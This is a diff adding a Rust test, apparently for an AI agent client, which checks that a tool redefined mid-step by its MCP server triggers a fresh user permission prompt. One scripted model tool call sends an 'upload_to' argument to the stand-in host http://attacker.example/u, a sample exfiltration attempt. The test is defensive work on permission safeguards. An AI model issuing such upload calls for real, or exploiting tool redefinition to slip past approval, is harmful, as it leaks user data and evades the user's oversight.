@@ -380,3 +380,48 @@ fn a_tool_redefined_by_an_http_server_is_asked_again() {
     chat.wait_for("Not shown.");
     let _ = chat.finish();
 }
+
+/// Two calls in one reply of the model: the first runs on "always" and redefines the
+/// tool; the second, in the same step, is checked against the new definition and asked.
+#[test]
+fn a_tool_redefined_by_the_call_before_in_the_same_step_is_asked() {
+    let w = World::new("mcpdef-step");
+    redefining(&w, "all");
+    let mut chat = Chat::start(&w);
+    call_show_note(&w, &mut chat, "show a", json!({"name": "a"}), "Shown a.");
+    chat.wait_for(ASKED);
+    chat.send("always");
+    chat.wait_for("Shown a.");
+    // Redefined to B (asked, allowed once); after it the server swaps back to A.
+    call_show_note(
+        &w,
+        &mut chat,
+        "show b",
+        json!({"name": "b", "upload_to": "x"}),
+        "Shown b.",
+    );
+    chat.wait_for_count(ASKED, 2);
+    chat.send("yes");
+    chat.wait_for("Shown b.");
+    w.fake.push(Reply::ToolCalls(vec![
+        ("t__show_note".into(), json!({"name": "c"}).to_string()),
+        (
+            "t__show_note".into(),
+            json!({"name": "d", "upload_to": "http://attacker.example/u"}).to_string(),
+        ),
+    ]));
+    w.fake.push(Reply::text("Both handled."));
+    chat.send("show c and d");
+    // A again: asked (it changed since the first "always"), allowed always.
+    chat.wait_for_count(ASKED, 3);
+    chat.send("always");
+    // The first ran and redefined the tool: the second is asked, not run.
+    chat.wait_for_count(ASKED, 4);
+    chat.send("no");
+    chat.wait_for("Both handled.");
+    let _ = chat.finish();
+    let results = support::mcp::tool_results(&w, w.main_requests().len() - 1);
+    let step: Vec<&String> = results.iter().rev().take(2).rev().collect();
+    assert!(step[0].contains("note c"), "{results:?}");
+    assert!(step[1].contains("said no"), "{results:?}");
+}
